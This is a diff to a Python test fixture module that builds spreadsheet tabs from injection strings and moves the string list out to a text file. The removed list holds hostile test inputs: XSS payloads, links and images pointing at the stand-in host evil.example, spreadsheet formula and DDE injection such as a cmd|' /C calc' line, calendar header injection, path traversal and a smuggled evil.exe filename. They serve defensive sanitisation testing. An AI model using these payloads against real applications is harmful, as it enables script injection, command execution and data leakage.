@@ -4,65 +4,13 @@ import datetime as dt
 import re
 from pathlib import Path
 
-import openpyxl
-
 from cwac.sheet.schema import TABS
-from tests.fixed_clock import date_file
 from tests.web import plan
 from tests.web.plan import Rows
 
-ATTACKS = [
-    "![{m}](http://evil.example/{m}.png)",
-    "[![{m}](http://evil.example/{m}.png)](http://evil.example/{m})",
-    "[{m}](javascript:alert(1))",
-    "[{m}](data:text/html;base64,PHNjcmlwdD4=)",
-    "[{m}][x] [x]: http://evil.example/{m}",
-    "http://evil.example/{m}",
-    "HTTPS://evil.example/{m}?a=b",
-    "ftp://evil.example/{m}",
-    "www.evil.example/{m}",
-    "{m}@evil.example",
-    "<http://evil.example/{m}>",
-    '<img src="http://evil.example/{m}.png" onerror="alert(1)">',
-    "<script>alert('{m}')</script>",
-    '<a href="javascript:alert(1)">{m}</a>',
-    '"><svg onload=alert(1)>{m}',
-    "<style>@import 'http://evil.example/{m}'</style>",
-    '<iframe src="http://evil.example/{m}"></iframe>',
-    "&lt;b&gt;{m}&#x202e;",
-    "$${m}^2$$",
-    "$\\href{{javascript:alert(1)}}{{{m}}}$",
-    "$\\includegraphics{{http://evil.example/{m}.png}}$",
-    ":red[{m}] :blue-background[{m}]",
-    ':color[{m}]{{foreground="red"}}',
-    ":material/home: {m} :tada: :streamlit:",
-    ":blue-badge[{m}] :small[{m}]",
-    "**{m}** _{m}_ ~~{m}~~ `{m}`",
-    "# {m}",
-    "- {m}",
-    "1. {m}",
-    "> {m}",
-    "| {m} | x |",
-    "[ ] {m} [^1]",
-    "{m} -> <- >= <=",
-    "===={m}====",
-    '=HYPERLINK("http://evil.example/{m}","{m}")',
-    "+1+{m}",
-    "-2+3+cmd|' /C calc'!{m}",
-    "@SUM(1+1)*{m}",
-    "\t=1+1 {m}",
-    "\r=1+1 {m}",
-    "{m}\r\nBEGIN:VEVENT\r\nSUMMARY:{m}\r\nEND:VEVENT",
-    "{m}\nATTACH:http://evil.example/{m}",
-    "{m};X-EVIL=1:http://evil.example,{m}\\n",
-    "\u202e{m}\u2066\u200b",
-    "{{{{ {m} }}}} {{% {m} %}} ${{{m}}}",
-    '#eval("{m}") #image("http://evil.example/{m}") @{m}',
-    "../../{m}/..\\..\\{m}",
-    '{m}"; filename="evil.exe',
-    "%s%n {m} %(x)s",
-    "datum.{m} + alert(1)",
-]
+_LINES = Path(__file__).with_suffix(".txt").read_text(encoding="ascii").splitlines()
+ATTACKS = [line.encode().decode("unicode_escape") for line in _LINES]
+"""The lines of `attacks.txt`, with Python's escapes, where `{m}` is a mark that tells the cell."""
 NOT_IN_EXCEL = ["{m}\x00\x01\x1b[31m", "{m} \ud800 {m}", "{m}\u2028{m}\x85"]
 """Characters that Excel cannot hold but a Google sheet can."""
 
@@ -140,16 +88,4 @@ def _cell(tab: str, field: str, row: int, today: dt.date, attack: str, reader: s
 
 
 def save(path: Path, today: dt.date) -> Path:
-    """Save as .xlsx, with formula-like text stored as text."""
-    book = openpyxl.Workbook()
-    book.remove(book.worksheets[0])
-    for name, rows in tabs(today).items():
-        sheet = book.create_sheet(name)
-        for row in rows:
-            sheet.append(row)
-        for cells in sheet.iter_rows():
-            for cell in cells:
-                if cell.data_type == "f":
-                    cell.data_type = "s"
-    book.save(path)
-    return date_file(path)
+    return plan.save_tabs(path, tabs(today))
